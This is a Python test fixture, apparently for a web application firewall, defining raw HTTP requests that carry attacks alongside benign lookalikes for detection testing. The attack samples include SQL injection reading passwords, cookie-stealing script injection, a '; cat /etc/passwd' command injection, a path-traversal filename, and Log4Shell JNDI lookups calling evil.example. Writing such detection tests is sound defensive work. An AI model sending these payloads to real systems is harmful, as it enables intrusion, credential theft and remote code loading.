"""One attack per place an attacker can put it, as raw HTTP requests, and benign twins."""

from __future__ import annotations

from dataclasses import dataclass, field


@dataclass(frozen=True)
class Sample:
    name: str
    method: str
    target: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    address: str = ""  # where the attack is, for the event check


def multipart(fields: dict[str, str], files: dict[str, tuple[str, bytes]]
              ) -> tuple[dict[str, str], bytes]:
    boundary = "bastionE2Eboundary"
    parts = []
    for name, value in fields.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'
                     f"{value}\r\n".encode())
    for name, (filename, content) in files.items():
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; '
                     f'filename="{filename}"\r\nContent-Type: application/octet-stream\r\n\r\n'
                     .encode() + content + b"\r\n")
    body = b"".join(parts) + f"--{boundary}--\r\n".encode()
    return {"Content-Type": f"multipart/form-data; boundary={boundary}"}, body


_MP_VALUE = multipart({"note": "; cat /etc/passwd"}, {})
_MP_FILE = multipart({"note": "hello"}, {"upload": ("../../../etc/passwd", b"x")})
_MP_BENIGN = multipart({"note": "Size 42, colour: blue & white"},
                       {"upload": ("holiday photo.jpg", bytes(range(256)) * 8)})

ATTACKS = [
    Sample("query", "GET", "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
           address="server.request.query"),
    Sample("json", "POST", "/submit", {"Content-Type": "application/json"},
           b'{"comment": "<script>alert(document.cookie)</script>"}', "server.request.body"),
    Sample("form", "POST", "/submit", {"Content-Type": "application/x-www-form-urlencoded"},
           b"name=x&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "server.request.body"),
    Sample("multipart value", "POST", "/submit", _MP_VALUE[0], _MP_VALUE[1],
           "server.request.body"),
    Sample("multipart filename", "POST", "/submit", _MP_FILE[0], _MP_FILE[1],
           "server.request.body.filenames"),
    Sample("xml", "POST", "/submit", {"Content-Type": "application/xml"},
           b"<order><note>${jndi:ldap://evil.example/a}</note></order>", "server.request.body"),
    Sample("cookie", "GET", "/search?q=shoes", {"Cookie": "session=${jndi:ldap://evil.example/x}"},
           address="server.request.cookies"),
    Sample("header", "GET", "/search?q=shoes", {"X-Api-Version": "${jndi:ldap://evil.example/a}"},
           address="server.request.headers.no_cookies"),
    Sample("path param", "GET", "/item/1%20UNION%20SELECT%20password%20FROM%20users",
           address="server.request.uri.raw"),
]

BENIGN = [
    Sample("search", "GET", "/search?q=running+shoes&size=42",
           {"Accept": "text/html", "User-Agent": "Mozilla/5.0 (X11; Linux x86_64) Firefox/131.0",
            "Cookie": "theme=dark; lang=fr"}),
    Sample("search unicode", "GET", "/search?q=%C3%A9t%C3%A9%20%E2%80%94%20l%27%C3%A9cole"),
    Sample("path param", "GET", "/item/sku-42.blue"),
    Sample("json", "POST", "/submit", {"Content-Type": "application/json"},
           b'{"name": "O\'Brien", "items": [1, 2, 3], "note": "leave at the door"}'),
    Sample("form", "POST", "/submit", {"Content-Type": "application/x-www-form-urlencoded"},
           b"name=Jos%C3%A9&city=S%C3%A3o+Paulo&msg=it%27s+fine"),
    Sample("multipart", "POST", "/submit", _MP_BENIGN[0], _MP_BENIGN[1]),
    Sample("xml", "POST", "/submit", {"Content-Type": "application/xml"},
           b"<order><item sku='42'>shoes</item></order>"),
    Sample("text", "POST", "/submit", {"Content-Type": "text/plain"}, b"hello " * 1000),
]
